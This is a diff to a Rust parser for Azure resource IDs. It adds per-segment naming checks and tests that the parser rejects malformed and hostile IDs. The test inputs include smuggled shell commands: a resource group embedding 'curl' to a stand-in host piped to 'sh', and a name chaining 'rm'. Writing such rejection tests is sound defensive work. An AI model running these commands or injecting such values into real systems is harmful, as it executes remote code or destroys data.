@@ -66,7 +66,8 @@ impl ArmId {
         let subscription = segs.get(1).copied().unwrap_or_default();
         if !is_guid(subscription) {
             return Err(IdError(format!(
-                "`{subscription}` is not a subscription id (a GUID such as 00000000-0000-0000-0000-000000000000)"
+                "`{}` is not a subscription id (a GUID such as 00000000-0000-0000-0000-000000000000)",
+                crate::diag::clip(subscription)
             )));
         }
         let namespace = segs
@@ -86,6 +87,45 @@ impl ArmId {
                 "an extension resource id (a second `providers`) is not a resource of its own"
                     .into(),
             ));
+        }
+        // every part by its rule (Learn, resource name rules: src/facts/naming.rs)
+        let group = segs[3];
+        if let Some(p) = crate::facts::naming::resource_group_problem(group) {
+            return Err(IdError(format!(
+                "resource group `{}` {p}",
+                crate::diag::clip(group)
+            )));
+        }
+        let ns_ok = namespace.split('.').count() >= 2
+            && namespace.split('.').all(|p| {
+                p.starts_with(|c: char| c.is_ascii_alphabetic())
+                    && p.chars().all(|c| c.is_ascii_alphanumeric())
+            });
+        if !ns_ok {
+            return Err(IdError(format!(
+                "`{}` is not a resource provider namespace (such as Microsoft.Network)",
+                crate::diag::clip(namespace)
+            )));
+        }
+        let mut ty = namespace.to_string();
+        for p in pairs.chunks(2) {
+            if !(p[0].starts_with(|c: char| c.is_ascii_alphabetic())
+                && p[0].chars().all(|c| c.is_ascii_alphanumeric()))
+            {
+                return Err(IdError(format!(
+                    "`{}` is not a resource type name",
+                    crate::diag::clip(p[0])
+                )));
+            }
+            ty.push('/');
+            ty.push_str(p[0]);
+            if let Some(problem) = crate::facts::naming::name_problem(&ty, p[1]) {
+                return Err(IdError(format!(
+                    "the {} name `{}` {problem}",
+                    p[0],
+                    crate::diag::clip(p[1])
+                )));
+            }
         }
         Ok(ArmId {
             subscription: subscription.to_string(),
@@ -198,34 +238,82 @@ mod tests {
         let bad = [
             ("subscriptions/x", "starts with"),
             (
-                "/subscriptions/not-a-guid/resourceGroups/g/providers/Microsoft.Network/virtualNetworks/v/subnets/s",
+                "/subscriptions/not-a-guid/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet/subnets/s",
                 "not a subscription id",
             ),
             (
                 &format!(
-                    "/subscriptions/{SUB}/resourceGroups/g/providers/Microsoft.Network/virtualNetworks/v/subnets"
+                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet/subnets"
                 ),
                 "type/name pairs",
             ),
             (
                 &format!(
-                    "/subscriptions/{SUB}/resourceGroups/g/providers/Microsoft.Network/virtualNetworks/v/subnets/s/"
+                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet/subnets/s/"
                 ),
                 "empty segment",
             ),
             (
                 &format!(
-                    "/subscriptions/{SUB}/groups/g/providers/Microsoft.Network/virtualNetworks/v"
+                    "/subscriptions/{SUB}/groups/g/providers/Microsoft.Network/virtualNetworks/vnet"
                 ),
                 "resourceGroups",
             ),
         ];
+        let parts = [
+            (
+                format!(
+                    "/subscriptions/{SUB}/resourceGroups/rg$(curl${{IFS}}evil.example|sh)/providers/Microsoft.OperationalInsights/workspaces/law-platform"
+                ),
+                "resource group",
+            ),
+            (
+                format!(
+                    "/subscriptions/{SUB}/resourceGroups/rg./providers/Microsoft.OperationalInsights/workspaces/law-platform"
+                ),
+                "period",
+            ),
+            (
+                format!(
+                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft$Evil/workspaces/law-platform"
+                ),
+                "namespace",
+            ),
+            (
+                format!(
+                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.OperationalInsights/work-spaces/law-platform"
+                ),
+                "resource type",
+            ),
+            (
+                format!(
+                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.OperationalInsights/workspaces/law;rm"
+                ),
+                "workspace",
+            ),
+            (
+                format!(
+                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/kv'x"
+                ),
+                "vaults name",
+            ),
+            (
+                format!(
+                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/v/subnets/s"
+                ),
+                "2 to 64",
+            ),
+        ];
+        for (id, why) in &parts {
+            let e = ArmId::parse(id).unwrap_err();
+            assert!(e.0.contains(why), "{id}: {e}");
+        }
         for (id, why) in bad {
             let e = ArmId::parse(id).unwrap_err();
             assert!(e.0.contains(why), "{id}: {e}");
         }
         let vnet = format!(
-            "/subscriptions/{SUB}/resourceGroups/g/providers/Microsoft.Network/virtualNetworks/v"
+            "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet"
         );
         let e = ArmId::parse_of(&vnet, "Microsoft.Network/virtualNetworks/subnets").unwrap_err();
         assert!(e.0.contains("Microsoft.Network/virtualNetworks,"), "{e}");
@@ -233,8 +321,8 @@ mod tests {
 
     #[test]
     fn ids_compare_without_case() {
-        let a = ArmId::parse(&format!("/subscriptions/{SUB}/resourceGroups/RG/providers/Microsoft.Network/virtualNetworks/V/subnets/S")).unwrap();
-        let b = ArmId::parse(&format!("/subscriptions/{SUB}/resourcegroups/rg/providers/microsoft.network/virtualnetworks/v/subnets/s")).unwrap();
+        let a = ArmId::parse(&format!("/subscriptions/{SUB}/resourceGroups/RG/providers/Microsoft.Network/virtualNetworks/VNET/subnets/S")).unwrap();
+        let b = ArmId::parse(&format!("/subscriptions/{SUB}/resourcegroups/rg/providers/microsoft.network/virtualnetworks/vnet/subnets/s")).unwrap();
         assert!(a.same_as(&b));
     }
 }
